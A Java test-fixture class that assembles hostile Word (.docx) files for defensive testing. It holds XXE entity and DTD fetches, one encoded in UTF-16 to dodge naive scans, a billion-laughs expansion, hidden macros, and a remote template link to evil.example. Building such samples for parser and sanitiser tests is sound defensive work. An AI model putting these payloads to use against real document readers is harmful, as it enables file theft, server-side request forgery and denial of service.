package org.evenhand.document.samples;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/** Word files that mean harm: small packages written part by part. */
public final class HostileWord {
  private static final String WORD =
      "application/vnd.openxmlformats-officedocument.wordprocessingml.";
  private static final String NAMES =
      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

  private HostileWord() {}

  /** The least that is a Word file, with this body. */
  public static RawZip with(String body) {
    return parts(types(WORD + "document.main+xml"), document(body));
  }

  public static RawZip plain() {
    return with("<w:p><w:r><w:t>Harmless</w:t></w:r></w:p>");
  }

  /** Fetches an entity from somewhere, in its main part. */
  public static byte[] fetching(String address) {
    var declared = "<!DOCTYPE w [<!ENTITY e SYSTEM \"%s\">]>".formatted(address);
    return parts(
            types(WORD + "document.main+xml"),
            declared + document("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"))
        .end();
  }

  /** Fetches a whole declaration, in UTF-16 so that careless searches miss it. */
  public static byte[] fetchingInUtf16(String address) {
    var xml =
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE w SYSTEM \"%s\">%s"
            .formatted(address, document(""));
    return parts(types(WORD + "document.main+xml"), xml, StandardCharsets.UTF_16).end();
  }

  /** Fetches in a part that only readers of properties look at. */
  public static byte[] fetchingInProperties(String address) {
    return plain()
        .stored("docProps/core.xml", "<!DOCTYPE c SYSTEM \"%s\"><c/>".formatted(address))
        .end();
  }

  /** Fetches in the list of its parts, which is read before all others. */
  public static byte[] fetchingInTypes(String address) {
    var types = "<!DOCTYPE t SYSTEM \"%s\">".formatted(address) + types(WORD + "document.main+xml");
    return parts(types, document("")).end();
  }

  public static byte[] laughing() {
    var entities = new StringBuilder("<!DOCTYPE w [<!ENTITY a0 \"ha\">");
    for (var i = 1; i < 40; i++) {
      entities.append("<!ENTITY a%d \"&a%d;&a%d;\">".formatted(i, i - 1, i - 1));
    }
    return parts(
            types(WORD + "document.main+xml"),
            entities + "]>" + document("<w:p><w:r><w:t>&a39;</w:t></w:r></w:p>"))
        .end();
  }

  public static byte[] nested(int depth) {
    return with("<w:tbl>".repeat(depth) + "</w:tbl>".repeat(depth)).end();
  }

  public static byte[] withMacros() {
    return parts(types("application/vnd.ms-word.document.macroEnabled.main+xml"), document(""))
        .stored("word/vbaProject.bin", "macro")
        .end();
  }

  /** Says that it has no macros, and has. */
  public static byte[] withMacrosUnsaid() {
    return plain().stored("word/vbaProject.bin", "macro").end();
  }

  public static byte[] spreadsheet() {
    return parts(
            types("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
            document(""))
        .end();
  }

  public static byte[] withRemoteTemplate() {
    return plain()
        .stored(
            "word/_rels/settings.xml.rels",
            """
            <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
            <Relationship Id="r1" TargetMode="External" Target="https://evil.example/t.dotm"
            Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>
            </Relationships>""")
        .end();
  }

  /** The parts of a plain file, to be written in some other way. */
  public static Map<String, String> plainParts() {
    var parts = new LinkedHashMap<String, String>();
    parts.put("[Content_Types].xml", types(WORD + "document.main+xml"));
    parts.put("word/document.xml", document(""));
    return parts;
  }

  private static RawZip parts(String types, String document) {
    return parts(types, document, StandardCharsets.UTF_8);
  }

  private static RawZip parts(String types, String document, Charset charset) {
    return new RawZip()
        .stored("[Content_Types].xml", types)
        .stored("word/document.xml", document.getBytes(charset));
  }

  private static String types(String main) {
    return """
        <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
        <Default Extension="xml" ContentType="application/xml"/>
        <Override PartName="/word/document.xml" ContentType="%s"/></Types>"""
        .formatted(main);
  }

  private static String document(String body) {
    return "<w:document %s><w:body>%s</w:body></w:document>".formatted(NAMES, body);
  }
}
